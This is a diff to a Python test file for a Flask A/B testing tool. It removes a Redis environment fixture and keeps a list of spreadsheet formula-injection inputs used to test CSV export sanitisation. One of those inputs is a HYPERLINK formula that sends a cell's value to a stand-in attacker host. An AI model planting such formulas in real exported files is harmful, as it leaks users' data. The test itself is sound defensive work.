@@ -11,22 +11,11 @@ from flask.testing import FlaskClient
 
 from abflask import analysis
 from abflask.analysis.csvfile import spreadsheet_safe, spreadsheet_text
-from abflask.storage.localredis import LocalRedis
-from tests.helpers import PREFIX, Admin
+from tests.helpers import Admin
 
 EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1", "-2"]
 """Variation names a spreadsheet would run (or read as numbers)."""
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
-
-@pytest.fixture
-def env(
-    monkeypatch: pytest.MonkeyPatch, redis_server: LocalRedis, tmp_path: Path
-) -> Path:
-    monkeypatch.setenv("REDIS_URL", redis_server.url)
-    monkeypatch.setenv("ABFLASK_KEY_PREFIX", PREFIX)
-    monkeypatch.setenv("ABFLASK_DATA_DIR", str(tmp_path / "data"))
-    return tmp_path
 
 
 @pytest.fixture
